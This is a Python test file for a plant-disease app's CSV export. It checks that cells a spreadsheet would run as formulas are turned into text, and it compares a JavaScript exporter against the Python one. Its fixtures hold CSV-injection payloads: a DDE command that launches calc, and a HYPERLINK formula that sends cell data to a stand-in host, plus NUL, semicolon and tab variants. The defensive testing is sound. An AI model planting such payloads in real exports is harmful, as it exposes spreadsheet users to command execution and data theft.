"""The table of answers the desktop app saves and `leafdoc predict --csv` writes (words/answer_table.py): cells a
spreadsheet would run as formulas are text. The desktop app wrote them as they came, and it may be pointed at any
server: an answer's message `=HYPERLINK(...)` or `@SUM(...)` ran when the saved history was opened."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime

from tests.unit.node_support import needs_node, run_node

from leafdoc.words.answer_table import FIELDS, answer_row, table_csv

HOSTILE = {
    "label": "+cmd|' /C calc'!A0",
    "confidence": 0.5,
    "abstained": True,
    "reason": "unsure",
    "message": '=HYPERLINK("http://example.invalid/?"&A1, "click")',
    "top_k": [{"label": "-2+3", "probability": 0.5}],
    "crop_given": "@SUM(1)",
    "model_version": 3,
}


def read(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_cell_a_spreadsheet_would_run_is_text():
    (row,) = read(table_csv([answer_row(HOSTILE, "/photos/\tleaf.jpg", datetime(2026, 12, 2, 9, 30))]))
    assert row["message"] == "'" + HOSTILE["message"] and row["diagnosis"] == "'" + HOSTILE["label"]
    assert row["crop_given"] == "'@SUM(1)" and row["top_k"] == "'-2+3=0.5000" and row["file"] == " leaf.jpg"
    said = (row["time"], row["abstained"], row["reason"], row["model_version"])
    assert said == ("2026-12-02T09:30:00", "yes", "unsure", "3")
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_an_ordinary_answer_and_an_unread_photo_are_written_as_they_are():
    top = [
        {"label": "Tomato___Early_blight", "probability": 0.98765},
        {"label": "Tomato___Late_blight", "probability": 0.01},
    ]
    top[0]["name"] = "Tomate — Tizón temprano"  # the API's name, in the answer's language
    answered = {"label": "Tomato___Early_blight", "confidence": 0.98765, "abstained": False, "top_k": top}
    unread = {"file": "b.jpg", "error": "truncated"}
    first, second = read(table_csv([answer_row(answered, "a.jpg"), answer_row(unread, "b.jpg")]))
    assert list(first) == FIELDS
    assert (first["diagnosis"], first["confidence"], first["abstained"]) == ("Tomato___Early_blight", "0.9877", "no")
    assert first["top_k"] == "Tomato___Early_blight=0.9877; Tomato___Late_blight=0.0100"
    assert first["name"] == "Tomate — Tizón temprano" and second["name"] == ""
    assert (second["file"], second["reason"], second["message"], second["diagnosis"]) == (
        "b.jpg",
        "error",
        "truncated",
        "",
    )


def test_what_else_a_spreadsheet_would_run_is_text():
    """Security round 9, with LibreOffice 7.4: a NUL before "=" was a formula; a ";" in a cell split it where a
    spreadsheet splits on ";" (Excel in French, German, Spanish...); a line break ended the row; spaces before "="
    were trimmed away."""
    from leafdoc.words.answer_table import spreadsheet_safe

    for hostile, safe in [
        ("\x00=7+7", "'=7+7"),
        ("a;=1+1;b.jpg", "a;'=1+1;b.jpg"),
        ("x; -2+3", "x; '-2+3"),
        ("first\n=1+1", "first =1+1"),
        ("  =2+2", "'  =2+2"),
        ("ok\t=HYPERLINK(1)", "ok =HYPERLINK(1)"),  # round 10: LibreOffice and Excel split on tabs by default
        ("leaf\t=6*7;.jpg", "leaf =6*7;.jpg"),
        ("\u00a0\t=12+12", "'\u00a0 =12+12"),
        ("Tomato — Early blight; rings", "Tomato — Early blight; rings"),  # nothing to make text: as it was
    ]:
        assert spreadsheet_safe(hostile) == safe, hostile
    # in a whole table, read back by a reader that splits on ";" and tabs too: no cell starts a formula
    rows = [answer_row({"label": "a;=1+1", "message": "\x00@SUM(1)", "top_k": [{"label": "x;+1", "probability": 1}]},
                       "/p/a;=HYPERLINK(1);b\t=7*7.jpg")]  # fmt: skip
    text = table_csv(rows)
    cells = [cell for line in text.splitlines() for part in re.split("[,\t]", line) for cell in part.split(";")]
    assert all(not cell.strip(' "').startswith(("=", "+", "-", "@")) for cell in cells), cells


NODE_SCRIPT = r"""
const h = await import(process.argv[1]);
let text = "";
for await (const chunk of process.stdin) text += chunk;
const cells = JSON.parse(text);
console.log(JSON.stringify({ safe: cells.map(h.spreadsheetSafe), csv: cells.map(h.csvCell) }));
"""


@needs_node
def test_the_web_pages_history_export_makes_the_same_cells_text():
    """The web page's history export (ui/history.py, with offline/static/history.js's csvCell) looked at a cell's
    first character only: round 9's NUL, ";" and leading-space cases reached the CSV as formulas. Its cells are now
    held against spreadsheet_safe's, on round 9's cases and on strings drawn from the characters that matter."""
    import random

    from leafdoc.words.answer_table import spreadsheet_safe

    rng = random.Random(7)
    alphabet = [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        ";",
        " ",
        "\u00a0",
        "\x00",
        "\x1f",
        "\x85",
        "\ufeff",
        "a",
        '"',
        ",",
    ]
    cells = [
        "\x00=7+7",
        "a;=1+1;b.jpg",
        "x; -2+3",
        "first\n=1+1",
        "  =2+2",
        "Tomato — Early blight; rings",
        "",
        "\u3000=1",
    ]
    cells += ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 8))) for _ in range(3000)]
    said = run_node(NODE_SCRIPT, "history.js", cells)
    wanted = [spreadsheet_safe(c) for c in cells]
    assert said["safe"] == wanted, next(
        (c, s, w) for c, s, w in zip(cells, said["safe"], wanted, strict=True) if s != w
    )
    # each exported cell, read back as CSV, is that text
    for cell, text in zip(cells, said["csv"], strict=True):
        row = next(csv.reader(io.StringIO(text + "\r\n"))) or [""]  # an empty cell reads back as no cell
        assert row == [spreadsheet_safe(cell)], (cell, text)
